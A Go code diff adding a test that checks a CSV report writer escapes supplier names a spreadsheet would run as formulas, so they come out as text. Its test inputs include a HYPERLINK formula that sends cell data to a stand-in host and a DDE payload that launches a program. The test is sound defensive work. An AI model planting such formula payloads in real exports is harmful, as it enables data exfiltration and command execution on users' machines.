@@ -1,6 +1,7 @@
 package report
 
 import (
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -22,5 +23,43 @@ func TestWriteTextAlignsChinese(t *testing.T) {
 	want := at(lines[0], "local_product_sales_yuan")
 	if a, c := at(lines[1], "843930.00"), at(lines[2], "0.05"); a != want || c != want {
 		t.Fatalf("local sales start at cells %d and %d, header at %d:\n%s", a, c, want, b.String())
+	}
+}
+
+// TestWriteCSVFormulaInert: names a supplier or buyer chose that a
+// spreadsheet would run as formulas come out as text; numbers stay numbers.
+func TestWriteCSVFormulaInert(t *testing.T) {
+	t.Parallel()
+	names := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"点击")`: `'=HYPERLINK("http://evil.example/?"&A1,"点击")`,
+		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
+		"-2+3":                                        "'-2+3",
+		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
+		"\t=1+1":                                      "'\t=1+1",
+		"\r=1+1":                                      "'\r=1+1",
+		"湘西=合作社":                                      "湘西=合作社",
+		"-12.50":                                      "-12.50",
+		"":                                            "",
+	}
+	var st pipeline.Statistics
+	for name := range names {
+		st.Suppliers = append(st.Suppliers, pipeline.PartyRow{ID: "S", Name: name})
+	}
+	var b strings.Builder
+	if err := WriteCSV(&b, &st, "suppliers"); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != len(names)+1 {
+		t.Fatalf("%d records, want %d", len(recs), len(names)+1)
+	}
+	for i, r := range recs[1:] {
+		name := st.Suppliers[i].Name
+		if r[2] != names[name] {
+			t.Errorf("name %q written as %q, want %q", name, r[2], names[name])
+		}
 	}
 }
